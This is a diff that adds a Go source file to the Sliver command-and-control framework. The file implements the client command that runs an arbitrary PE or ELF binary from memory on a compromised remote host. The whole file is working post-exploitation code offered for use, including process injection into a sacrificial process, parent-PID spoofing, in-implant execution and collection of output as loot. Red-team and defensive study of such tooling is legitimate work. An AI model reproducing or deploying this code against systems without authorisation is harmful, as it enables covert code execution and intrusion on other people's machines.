@@ -0,0 +1,146 @@
+package exec
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"context"
+	"fmt"
+	"os"
+	"strings"
+
+	"github.com/AlecAivazis/survey/v2"
+	"github.com/bishopfox/sliver/client/command/help"
+	"github.com/bishopfox/sliver/client/console"
+	consts "github.com/bishopfox/sliver/client/constants"
+	"github.com/bishopfox/sliver/protobuf/clientpb"
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+	"github.com/desertbit/grumble"
+	"google.golang.org/protobuf/proto"
+)
+
+func init() {
+	help.RegisterOpsec(consts.InlineExecuteStr, &help.OpsecInfo{
+		Risk:      help.OpsecHigh,
+		Artifacts: []string{"sacrificial process (default notepad.exe), unless --in-process", "memfd backed process on linux"},
+		APIs:      []string{"process injection on windows", "memfd_create/execve on linux"},
+	})
+}
+
+// InlineExecuteCmd - Run an unmanaged PE/ELF from memory on the remote system
+func InlineExecuteCmd(ctx *grumble.Context, con *console.SliverConsoleClient) {
+	session, beacon := con.ActiveTarget.GetInteractive()
+	if session == nil && beacon == nil {
+		return
+	}
+
+	binPath := ctx.Args.String("filepath")
+	binData, err := os.ReadFile(binPath)
+	if err != nil {
+		con.PrintErrorf("%s\n", err)
+		return
+	}
+	processArgs := []string{}
+	if processArgsStr := ctx.Flags.String("process-arguments"); processArgsStr != "" {
+		processArgs = strings.Split(processArgsStr, " ")
+	}
+	inProcess := ctx.Flags.Bool("in-process")
+	if inProcess {
+		con.PrintWarnf("Running in the implant process, a crash or a call to exit() will kill the implant\n")
+		confirm := false
+		prompt := &survey.Confirm{Message: "Do you want to continue?"}
+		survey.AskOne(prompt, &confirm, nil)
+		if !confirm {
+			return
+		}
+	}
+
+	injection, err := parseInjection(ctx)
+	if err != nil {
+		con.PrintErrorf("%s\n", err)
+		return
+	}
+	ctrl := make(chan bool)
+	con.SpinUntil(fmt.Sprintf("Executing %s ...", binPath), ctrl)
+	inlineExec, err := con.Rpc.InlineExecute(context.Background(), &sliverpb.InlineExecuteReq{
+		Request:     con.ActiveTarget.Request(ctx),
+		Data:        binData,
+		Args:        ctx.Args.StringList("args"),
+		InProcess:   inProcess,
+		ProcessName: ctx.Flags.String("process"),
+		ProcessArgs: processArgs,
+		PPid:        uint32(ctx.Flags.Uint("ppid")),
+		Timeout:     int64(ctx.Flags.Int("exec-timeout")),
+		IsUnicode:   ctx.Flags.Bool("unicode"),
+		Injection:   injection,
+	})
+	ctrl <- true
+	<-ctrl
+	if err != nil {
+		con.PrintErrorf("%s\n", err)
+		return
+	}
+
+	hostName := getHostname(session, beacon)
+	if inlineExec.Response != nil && inlineExec.Response.Async {
+		con.AddBeaconCallback(inlineExec.Response.TaskID, func(task *clientpb.BeaconTask) {
+			err = proto.Unmarshal(task.Response, inlineExec)
+			if err != nil {
+				con.PrintErrorf("Failed to decode response %s\n", err)
+				return
+			}
+			PrintInlineExecute(inlineExec, binPath, hostName, ctx, con)
+		})
+		con.PrintAsyncResponse(inlineExec.Response)
+	} else {
+		PrintInlineExecute(inlineExec, binPath, hostName, ctx, con)
+	}
+}
+
+// PrintInlineExecute - Print the output and exit code of an inline execution
+func PrintInlineExecute(inlineExec *sliverpb.InlineExecute, binPath string, hostName string, ctx *grumble.Context, con *console.SliverConsoleClient) {
+	if inlineExec.GetResponse().GetErr() != "" {
+		con.PrintErrorf("%s\n", inlineExec.GetResponse().GetErr())
+		return
+	}
+
+	output := string(inlineExec.Stdout)
+	if 0 < len(inlineExec.Stderr) {
+		output += fmt.Sprintf("\n%s", inlineExec.Stderr)
+	}
+	if ctx.Flags.Bool("save") {
+		SaveExecutionOutput(output, ctx.Command.Name, hostName, con)
+	}
+	if ctx.Flags.Bool("loot") {
+		LootExecute([]byte(output), ctx.Flags.String("name"), ctx.Command.Name, binPath, hostName, con)
+	}
+
+	con.PrintInfof("Output:\n%s", inlineExec.Stdout)
+	if 0 < len(inlineExec.Stderr) {
+		con.PrintInfof("Stderr:\n%s", inlineExec.Stderr)
+	}
+	if inlineExec.TimedOut {
+		con.PrintWarnf("Execution timed out and was terminated\n")
+		return
+	}
+	if inlineExec.ExitCode != 0 {
+		con.PrintErrorf("Exited with status %d!\n", inlineExec.ExitCode)
+	} else {
+		con.PrintInfof("Exited with status 0\n")
+	}
+}